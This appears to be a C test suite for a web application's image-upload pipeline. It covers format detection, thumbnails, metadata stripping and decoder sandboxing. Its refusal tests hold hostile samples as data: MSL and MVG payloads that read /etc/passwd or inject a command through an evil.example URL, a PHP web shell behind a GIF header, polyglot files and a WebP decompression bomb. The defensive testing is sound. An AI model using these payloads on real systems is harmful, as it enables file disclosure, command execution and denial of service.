/* What is taken for a picture, and what comes out of it. */
#include "config.h"

#include <string.h>

#include "fcgi/base/settings.h"
#include "tests/support/check.h"
#include "tests/support/pictures.h"
#include "uploads/image.h"

static const struct bytes_of no_extra = { "", 0 };

static void good_pictures_are_known_by_their_bytes(void)
{
	const struct {
		const char *what;
		struct bytes_of b;
		enum picture_format format;
		int width, height;
	} cases[] = {
		{ "JPEG", a_jpeg(), PICTURE_JPEG, 960, 720 },
		{ "JPEG with EXIF", a_jpeg_with_exif(6, "x"), PICTURE_JPEG, 960,
		  720 },
		{ "WebP", a_webp(), PICTURE_WEBP, 960, 720 },
		{ "PNG", a_png(40, 30, 3, no_extra), PICTURE_PNG, 40, 30 },
		{ "PNG with alpha", a_png(16, 16, 4, no_extra), PICTURE_PNG, 16,
		  16 },
		{ "GIF", a_gif(64, 48, 64, 48, 1), PICTURE_GIF, 64, 48 },
		{ "moving GIF", a_gif(64, 48, 32, 48, 5), PICTURE_GIF, 64, 48 },
		{ "widest PNG", a_png(12000, 16, 3, no_extra), PICTURE_PNG,
		  12000, 16 },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		struct picture_facts f;

		CHECK_TEXT(sniff_picture(cases[i].b.p, cases[i].b.n, &f), NULL,
		           cases[i].what);
		CHECK_INT(f.format, cases[i].format, cases[i].what);
		CHECK_INT(f.width, cases[i].width, cases[i].what);
		CHECK_INT(f.height, cases[i].height, cases[i].what);
	}
}

/* text that unpacks to a thousand times its size */
static struct bytes_of many_chunks(const char *type, int n, size_t size)
{
	struct bytes_of all = no_extra;
	char *data = arena_alloc(tc->arena, size + 1);

	memset(data, 'a', size);
	for (int i = 0; i < n; i++)
		all = bytes_cat(all,
		                a_chunk(type, (struct bytes_of){ data, size }));
	return all;
}

struct hostile {
	const char *what;
	struct bytes_of b;
	const char *code;
};

/* Each is refused, by the first look or by the decoder, and nothing happens to
 * us. */
static void check_refused(const struct hostile *h, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		struct made_picture made;
		const char *refused = NULL;

		CHECK_RC(image_make(tc, h[i].b.p, h[i].b.n, &made, &refused),
		         RC_OK, h[i].what);
		CHECK_TEXT(refused, h[i].code, h[i].what);
	}
}

static void what_is_no_picture_is_refused(void)
{
	struct bytes_of png = a_png(32, 32, 3, no_extra);
	const struct hostile cases[] = {
		{ "nothing", { "", 0 }, "not_a_picture" },
		{ "one byte", { "\xff", 1 }, "not_a_picture" },
		{ "SVG with script",
		  bytes_text("<svg xmlns=\"http://www.w3.org/2000/svg\">"
		             "<script>alert(1)</script></svg>"),
		  "not_a_picture" },
		{ "MSL",
		  bytes_text("<?xml version=\"1.0\"?><image><read "
		             "filename=\"/etc/passwd\"/></image>"),
		  "not_a_picture" },
		{ "MVG",
		  bytes_text("push graphic-context\nimage over 0,0 0,0 "
		             "'https://evil.example/\"|id\"'"),
		  "not_a_picture" },
		{ "a path", bytes_text("@/etc/passwd"), "not_a_picture" },
		{ "a coder's name", bytes_text("text:/etc/passwd"),
		  "not_a_picture" },
		{ "PostScript", bytes_text("%!PS-Adobe-3.0 EPSF-3.0\n"),
		  "not_a_picture" },
		{ "PDF", bytes_text("%PDF-1.7\n%%EOF\n"), "not_a_picture" },
		{ "TIFF", { "II*\0\x08\0\0\0", 8 }, "not_a_picture" },
		{ "BMP", bytes_text("BM123456789012345678"), "not_a_picture" },
		{ "HEIC",
		  { "\0\0\0\x18"
		    "ftypheic\0\0\0\0",
		    16 },
		  "not_a_picture" },
		{ "HTML", bytes_text("<!doctype html><img src=x onerror=y>"),
		  "not_a_picture" },
		{ "PHP behind a GIF's name",
		  bytes_text("GIF89a<?php system($_GET['c']); ?>"),
		  "too_large" },
		{ "a script before a PNG",
		  bytes_cat(bytes_text("#!/bin/sh\n"), png), "not_a_picture" },
		{ "a ZIP behind a PNG", bytes_cat(png, bytes_text("PK\5\6zip")),
		  "not_a_picture" },
		{ "a ZIP behind a JPEG",
		  bytes_cat(a_jpeg(),
		            bytes_text("PK\3\4............................"
		                       "................................"
		                       "PK\5\6zip")),
		  "truncated" },
		{ "HTML behind a WebP",
		  bytes_cat(a_webp(), bytes_text("<script>alert(1)</script>")),
		  "not_a_picture" },
		{ "RIFF that is a sound",
		  { "RIFF\x10\0\0\0WAVEfmt \0\0\0\0", 20 },
		  "not_a_picture" },
	};

	check_refused(cases, sizeof(cases) / sizeof(*cases));
}

static void what_is_cut_or_bent_is_refused(void)
{
	struct bytes_of png = a_png(32, 32, 3, no_extra), jpeg = a_jpeg();
	struct bytes_of webp = a_webp(), gif = a_gif(32, 32, 32, 32, 1);
	const struct hostile cases[] = {
		{ "half a JPEG", bytes_cut(jpeg, jpeg.n / 2), "truncated" },
		{ "a JPEG's first bytes", bytes_cut(jpeg, 200), "truncated" },
		{ "a JPEG without scan",
		  { "\xff\xd8\xff\xe0\0\x04xx\xff\xd9", 10 },
		  "truncated" },
		{ "a JPEG segment beyond the end",
		  bytes_patch(jpeg, 4, "\xff\xff", 2), "truncated" },
		{ "half a PNG", bytes_cut(png, png.n / 2), "truncated" },
		{ "a PNG chunk beyond the end",
		  bytes_patch(png, 33, "\x7f\xff\xff\xff", 4), "truncated" },
		{ "a PNG without data",
		  bytes_cat(bytes_cut(png, 33), a_chunk("IEND", no_extra)),
		  "malformed" },
		{ "a PNG with damaged data",
		  bytes_patch(png, 45, "\xff\xff\xff\xff", 4), "undecodable" },
		{ "a PNG with two heads",
		  a_png(32, 32, 3,
		        a_chunk("IHDR",
		                (struct bytes_of){ "\0\0\0\x20\0\0\0\x20"
		                                   "\x08\x02\0\0\0",
		                                   13 })),
		  "malformed" },
		{ "half a WebP", bytes_cut(webp, webp.n / 2), "truncated" },
		{ "a WebP that claims less",
		  bytes_patch(webp, 4, "\x08\0\0\0", 4), "not_a_picture" },
		{ "a damaged WebP", bytes_patch(webp, 23, "\0\0\0", 3),
		  "malformed" },
		{ "half a GIF", bytes_cut(gif, gif.n / 2), "truncated" },
		{ "a GIF frame outside of its screen",
		  a_gif(20, 20, 200, 200, 1), "malformed" },
	};

	check_refused(cases, sizeof(cases) / sizeof(*cases));
}

static void what_would_grow_is_refused(void)
{
	/* The 34 bytes that cost the library two gigabytes. */
	static const char bomb[] = "RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0"
				   "\x2f\xff\xff\xff\x0f\x10\x07\x10\x11\x11"
				   "\x88\x88\xfe\x07";
	const struct hostile cases[] = {
		{ "a WebP of 16383 x 16384", { bomb, 34 }, "too_large" },
		{ "a PNG of 50,000 a side", a_png(50000, 50000, 3, no_extra),
		  "too_large" },
		{ "a PNG of 2^31 a side",
		  a_png(0x7fffffff, 0x7fffffff, 3, no_extra), "too_large" },
		{ "a PNG of 2^32 - 1 a side",
		  a_png(0xffffffff, 0xffffffff, 3, no_extra), "too_large" },
		{ "a PNG above 25 megapixels", a_png(5001, 5000, 3, no_extra),
		  "too_large" },
		{ "a PNG 12,001 wide", a_png(12001, 16, 3, no_extra),
		  "too_large" },
		{ "a GIF of 65,535 a side", a_gif(65535, 65535, 32, 32, 1),
		  "too_large" },
		{ "a PNG of one pixel", a_png(1, 1, 3, no_extra), "too_small" },
		{ "a PNG of no width", a_png(0, 32, 3, no_extra), "too_small" },
		{ "a WebP of no width",
		  { "RIFF\x16\0\0\0WEBPVP8 \x0a\0\0\0\x10\0\0\x9d\x01\x2a"
		    "\0\0\x20\0",
		    30 },
		  "too_small" },
		{ "a GIF of 15 a side", a_gif(15, 15, 15, 15, 1), "too_small" },
		{ "a PNG with packed text",
		  a_png(32, 32, 3, many_chunks("zTXt", 1, 70000)),
		  "too_much_text" },
		{ "a PNG with a hundred texts and one",
		  a_png(32, 32, 3, many_chunks("tEXt", 101, 4)),
		  "too_much_text" },
		{ "a moving PNG",
		  a_png(32, 32, 3,
		        a_chunk("acTL",
		                (struct bytes_of){ "\0\0\0\2\0\0\0\0", 8 })),
		  "animated" },
		{ "a moving WebP",
		  { "RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\x02\0\0\0\x1f\0\0\x1f\0"
		    "\0",
		    30 },
		  "animated" },
		{ "a WebP whose canvas lies",
		  { "RIFF\x28\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\x1f\0\0\x1f\0\0"
		    "VP8L\x0a\0\0\0\x2f\xff\xff\xff\x0f\x10\x07\x10\x11\x11",
		    48 },
		  "malformed" },
	};

	check_refused(cases, sizeof(cases) / sizeof(*cases));
}

static const struct made_file *file_of(const struct made_picture *m, int target,
                                       enum picture_format format)
{
	for (size_t i = 0; i < m->n; i++)
		if (m->files[i].target == target &&
		    m->files[i].format == format)
			return &m->files[i];
	NEED_TRUE(false, "a file of that width and format");
	return NULL;
}

static void make(struct bytes_of b, struct made_picture *out)
{
	const char *refused = NULL;

	NEED_RC(image_make(tc, b.p, b.n, out, &refused), RC_OK, "make");
	CHECK_TEXT(refused, NULL, "taken");
	NEED_INT(out->n, MADE_MAX, "files");
}

static void thumbnails_come_in_three_widths_and_two_formats(void)
{
	static const int sizes[][2] = { { 160, 120 },
		                        { 480, 360 },
		                        { 960, 720 } };
	static const enum picture_format formats[] = { PICTURE_JPEG,
		                                       PICTURE_WEBP };
	struct made_picture m;

	make(a_jpeg(), &m);
	CHECK_INT(m.width, 960, "width");
	CHECK_INT(m.height, 720, "height");
	for (int i = 0; i < 6; i++) {
		const struct made_file *f =
			file_of(&m, sizes[i / 2][0], formats[i % 2]);
		struct picture_facts facts;

		CHECK_TEXT(sniff_picture(f->p, f->n, &facts), NULL, "a file");
		CHECK_INT(facts.format, f->format, "format");
		CHECK_INT(facts.width, sizes[i / 2][0], "width");
		CHECK_INT(facts.height, sizes[i / 2][1], "height");
	}
}

static void small_pictures_are_not_enlarged(void)
{
	struct made_picture m;

	make(a_png(200, 100, 3, no_extra), &m);
	CHECK_INT(file_of(&m, 960, PICTURE_JPEG)->width, 200, "960");
	CHECK_INT(file_of(&m, 480, PICTURE_WEBP)->width, 200, "480");
	CHECK_INT(file_of(&m, 160, PICTURE_JPEG)->width, 160, "160");
	CHECK_INT(file_of(&m, 160, PICTURE_JPEG)->height, 80, "160");
}

static void every_format_comes_through(void)
{
	const struct bytes_of cases[] = { a_png(300, 200, 4, no_extra),
		                          a_gif(64, 48, 64, 48, 3), a_webp(),
		                          a_png(4000, 20, 3, no_extra),
		                          a_png(20, 4000, 3, no_extra) };

	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		struct made_picture m;

		make(cases[i], &m);
		CHECK_TRUE(m.bytes > 0, "bytes");
	}
}

static void pictures_are_turned_upright(void)
{
	for (int orientation = 1; orientation <= 8; orientation++) {
		bool is_turned = orientation >= 5;
		struct made_picture m;

		make(a_jpeg_with_exif(orientation, "x"), &m);
		CHECK_INT(m.width, is_turned ? 720 : 960, "width");
		CHECK_INT(m.height, is_turned ? 960 : 720, "height");
		CHECK_INT(file_of(&m, 160, PICTURE_WEBP)->width, 160, "width");
		CHECK_INT(file_of(&m, 160, PICTURE_WEBP)->height,
		          is_turned ? 213 : 120, "height");
	}
}

static void nothing_but_the_picture_is_kept(void)
{
	static const char secret[] = "GPS 9.0320 N 38.7469 E";
	struct bytes_of jpeg = a_jpeg_with_exif(1, secret);
	struct bytes_of png =
		a_png(32, 32, 3, a_chunk("tEXt", bytes_text(secret)));
	const struct bytes_of cases[] = { jpeg, png };

	for (int k = 0; k < 2; k++) {
		struct made_picture m;

		CHECK_TRUE(memmem(cases[k].p, cases[k].n, secret, 10),
		           "it was there");
		make(cases[k], &m);
		for (size_t i = 0; i < m.n; i++) {
			CHECK_TRUE(
				!memmem(m.files[i].p, m.files[i].n, secret, 10),
				"gone");
			CHECK_TRUE(
				!memmem(m.files[i].p, m.files[i].n, "Exif", 4),
				"gone");
		}
	}
}

static void the_largest_picture_fits(void)
{
	struct made_picture m;

	make(a_png(5000, 5000, 3, no_extra), &m);
	CHECK_INT(m.width, 5000, "25 megapixels");
}

/* What the decoder says when asked: nothing works that must not, whichever way
 * its library has taken our policy. */
static void the_decoder_sits_in_a_cage(void)
{
	static const char *const ways[] = { "check", "check by-file" };
	static const char *const lines[] = {
		"system calls filtered: yes", "decodes SVG: no",
		"opens connections: no",      "writes files: no",
		"makes processes: no",        "maps new code: no",
		"runs programs: no",
	};

	for (size_t i = 0; i < sizeof(ways) / sizeof(*ways); i++) {
		int status = 0;
		const char *said = pictures_ask(ways[i], &status);

		CHECK_INT(status, 0, said);
		for (size_t k = 0; k < sizeof(lines) / sizeof(*lines); k++)
			CHECK_HAS(said, lines[k], ways[i]);
	}
}

static void without_the_program_nothing_is_refused(void)
{
	struct bytes_of jpeg = a_jpeg();
	const char *was = arena_strdup(tc->arena, settings->image_program);
	const char *refused = NULL;
	struct made_picture m;

	NEED_TRUE(settings_set("image_program", "/nonexistent"), "set");
	CHECK_RC(image_make(tc, jpeg.p, jpeg.n, &m, &refused), RC_UNAVAILABLE,
	         "tried again later");
	CHECK_TEXT(refused, NULL, "not the picture's fault");
	NEED_TRUE(settings_set("image_program", was), "set back");
}

static const struct check_hooks hooks = { .start = pictures_start,
	                                  .stop = pictures_stop };

CHECK_MAIN_WITH(
	"pictures", &hooks, TEST(good_pictures_are_known_by_their_bytes),
	TEST(what_is_no_picture_is_refused),
	TEST(what_is_cut_or_bent_is_refused), TEST(what_would_grow_is_refused),
	TEST(thumbnails_come_in_three_widths_and_two_formats),
	TEST(small_pictures_are_not_enlarged), TEST(every_format_comes_through),
	TEST(pictures_are_turned_upright),
	TEST(nothing_but_the_picture_is_kept), TEST(the_largest_picture_fits),
	TEST(the_decoder_sits_in_a_cage),
	TEST(without_the_program_nothing_is_refused))
